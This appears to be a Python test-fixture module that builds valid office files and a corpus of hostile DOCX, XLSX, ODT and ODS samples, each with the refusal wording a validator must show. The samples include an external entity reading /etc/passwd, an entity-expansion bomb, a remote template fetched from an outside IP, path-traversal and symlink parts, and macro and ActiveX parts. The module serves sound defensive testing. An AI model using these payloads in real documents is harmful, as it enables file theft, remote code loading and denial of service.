"""Small office files built in the test: valid DOCX, XLSX, ODT and ODS, and a corpus of hostile
ones (broken XML, missing parts, macros, ActiveX, remote templates, unsafe part names, links,
encrypted parts, XML entity bombs), each with the words its refusal must show."""

from __future__ import annotations

import functools
import io
import stat
import warnings
import zipfile

ODT_MIME = "application/vnd.oasis.opendocument.text"
ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
OFFICE_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
             'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
             'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')
MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            # OpenOffice 2 wrote this DOCTYPE: a DTD without entities is still accepted.
            '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" '
            '"Manifest.dtd">\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
            'opendocument:xmlns:manifest:1.0">{entries}</manifest:manifest>')
ENTRY = '<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{mime}">{extra}' \
        '</manifest:file-entry>'
ENCRYPTED = ('<manifest:encryption-data manifest:checksum-type="SHA1" manifest:checksum="x">'
             '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
             'manifest:initialisation-vector="x"/></manifest:encryption-data>')


def zip_of(entries: dict[str, bytes | str], *, mimetype_first: str | None = None) -> bytes:
    """A zip with these parts (text parts UTF-8), in order; duplicates are kept."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, \
            warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a duplicate part name is the point of one case
        if mimetype_first:
            archive.writestr(zipfile.ZipInfo("mimetype"), mimetype_first)
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    """The parts of a zip, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def changed(data: bytes, put: dict | None = None, drop=()) -> bytes:
    """The same zip with parts replaced or added (`put`, by name or ZipInfo) or dropped; a
    ZipInfo whose name is already there adds the part a second time."""
    entries: dict = {name: content for name, content in parts(data).items() if name not in drop}
    entries.update(put or {})
    return zip_of(entries)


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
    'application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="'
    '/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.styles+xml"/></Types>')


def _rels(*relationships: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
            + "".join(relationships) + "</Relationships>")


@functools.cache
def docx(text: str = "Hướng dẫn công việc", hyperlink: bool = False, *,
         paragraphs: tuple[str, ...] = ()) -> bytes:
    """A small real DOCX (the parts Word needs, a style sheet), optionally with an external
    hyperlink or several paragraphs; python-docx's own template is 800 kB of XML, too slow
    for a corpus."""
    paragraph = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>"
                        for line in (paragraphs or ((text,) if text else ())))
    link = (f'<Relationship Id="rId9" Type="{REL_TYPE}hyperlink" Target="https://example.com/'
            f'quy-trinh" TargetMode="External"/>') if hyperlink else ""
    return zip_of({
        "[Content_Types].xml": DOCX_TYPES,
        "_rels/.rels": _rels(f'<Relationship Id="rId1" Type="{REL_TYPE}officeDocument" '
                             f'Target="word/document.xml"/>'),
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}">'
                             f"<w:body>{paragraph}</w:body></w:document>",
        "word/_rels/document.xml.rels": _rels(f'<Relationship Id="rId1" Type="{REL_TYPE}'
                                              f'styles" Target="styles.xml"/>{link}'),
        "word/styles.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{W}">'
                           f'<w:style w:type="paragraph" w:styleId="Normal"><w:name '
                           f'w:val="Normal"/></w:style></w:styles>',
    })


@functools.cache
def xlsx(text: str = "Sổ theo dõi hồ sơ") -> bytes:
    """A real XLSX (openpyxl) with one cell."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = text
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def odf(mimetype: str = ODT_MIME, content: str | None = None, extra_entry: str = "",
        more: dict | None = None) -> bytes:
    """A minimal ODT (or ODS): mimetype first and stored, content.xml, the manifest."""
    if content is None:
        body = ('<office:text><text:p>Quy trình tiếp nhận hồ sơ</text:p></office:text>'
                if mimetype == ODT_MIME else
                '<office:spreadsheet><table:table table:name="A"><table:table-row>'
                '<table:table-cell><text:p>Bảng kê</text:p></table:table-cell>'
                '</table:table-row></table:table></office:spreadsheet>')
        content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
                   f'{OFFICE_NS} office:version="1.2"><office:body>{body}</office:body>'
                   f'</office:document-content>')
    entries = ENTRY.format(path="/", mime=mimetype, extra="") + ENTRY.format(
        path="content.xml", mime="text/xml", extra=extra_entry)
    files = {"content.xml": content, "META-INF/manifest.xml": MANIFEST.format(entries=entries)}
    files.update(more or {})
    if content == "":
        del files["content.xml"]
    return zip_of(files, mimetype_first=mimetype)


def _member(name: str, *, link: bool = False) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    if link:
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def encrypted(data: bytes, name: str) -> bytes:
    """The zip with the named part flagged as encrypted (zipfile cannot write one), in its
    local header and in the central directory."""
    out, raw = bytearray(data), name.encode()
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = out.find(signature)
        while start != -1:
            if out[start + name_at:start + name_at + len(raw)] == raw:
                out[start + flags_at] |= 0x1
            start = out.find(signature, start + 4)
    return bytes(out)


BOMB = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>')
XXE = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
       '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       '<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>')
REMOTE_TEMPLATE = _rels(f'<Relationship Id="rId1" Type="{REL_TYPE}attachedTemplate" '
                        f'Target="http://203.0.113.9/t.dotm" TargetMode="External"/>')
MACRO_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
               'content-types"><Default Extension="xml" ContentType="application/xml"/>'
               '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.'
               'document.macroEnabled.main+xml"/></Types>')


def hostile() -> dict[str, tuple[bytes, str]]:
    """Case name -> (file, words the refusal at the file field must contain)."""
    good_docx, good_xlsx = docx(), xlsx()
    package_rels = parts(good_docx)["_rels/.rels"]
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return {
        "docx with broken XML": (changed(good_docx, {"word/document.xml": "<w:document><w:p>"}),
                                 "word/document.xml is not valid XML"),
        "docx with broken styles": (changed(good_docx, {"word/styles.xml": "<w:styles"}),
                                    "word/styles.xml is not valid XML"),
        "docx without relationships": (changed(good_docx, drop=("_rels/.rels",)),
                                       "_rels/.rels is missing"),
        "docx whose main part is elsewhere": (
            changed(good_docx, {"_rels/.rels": package_rels.replace(b"word/document.xml",
                                                                    b"word/nowhere.xml")}),
            "The DOCX file is damaged and cannot be read."),
        "docx with a macro": (changed(good_docx, {"word/vbaProject.bin": vba}),
                              "macros (word/vbaProject.bin)"),
        "docm content type": (changed(good_docx, {"[Content_Types].xml": MACRO_TYPES}),
                              "macros (/word/document.xml)"),
        "xlsx with a macro": (changed(good_xlsx, {"xl/vbaProject.bin": vba}),
                              "macros (xl/vbaProject.bin)"),
        "xlsx with an Excel 4 macro sheet": (
            changed(good_xlsx, {"xl/macrosheets/sheet1.xml": "<x/>"}),
            "macros (xl/macrosheets/sheet1.xml)"),
        "docx with ActiveX": (changed(good_docx, {"word/activeX/activeX1.xml": "<ax/>"}),
                              "ActiveX controls (word/activeX/activeX1.xml)"),
        "docx with a remote template": (
            changed(good_docx, {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
            "loads http://203.0.113.9/t.dotm from outside"),
        "docx with an entity bomb": (changed(good_docx, {"word/document.xml": BOMB}),
                                     "entity declarations or outside references (in "
                                     "word/document.xml)"),
        "docx with an external entity": (changed(good_docx, {"word/document.xml": XXE}),
                                          "entity declarations"),
        "docx with a ../ part": (changed(good_docx, {"../../evil.sh": "#!/bin/sh"}),
                                 "unsafe name (../../evil.sh)"),
        "docx with a ..\\ part": (changed(good_docx, {"word\\..\\..\\evil.bat": "x"}),
                                  "unsafe name"),
        "docx with an absolute part": (changed(good_docx, {"/etc/cron.d/x": "x"}),
                                       "unsafe name (/etc/cron.d/x)"),
        "docx with a part twice": (changed(good_docx, {_member("word/document.xml"): "<w/>"}),
                                   "the part word/document.xml twice"),
        "docx with a link": (changed(good_docx, {_member("word/media/a.png", link=True):
                                                 "/etc/passwd"}),
                             "a link (word/media/a.png)"),
        "docx with an encrypted part": (
            encrypted(changed(good_docx, {"word/x.bin": "x"}), "word/x.bin"),
            "password (word/x.bin is encrypted)"),
        "odt without content.xml": (odf(content=""), "content.xml is missing"),
        "odt whose content is not a document": (odf(content="<html/>"),
                                                "content.xml holds no document"),
        "ods with a text body": (odf(ODS_MIME, content=parts(odf())["content.xml"].decode()),
                                 "content.xml holds no document"),
        "odt with Basic macros": (odf(more={"Basic/Standard/Module1.xml": "<script/>"}),
                                  "macros (Basic/Standard/Module1.xml)"),
        "odt with a password": (odf(content="\x00\x01garbage", extra_entry=ENCRYPTED),
                                "password (content.xml is encrypted)"),
        "odt with an entity bomb": (
            odf(content=BOMB.replace("w:document", "office:document-content")),
            "entity declarations or outside references (in content.xml)"),
    }
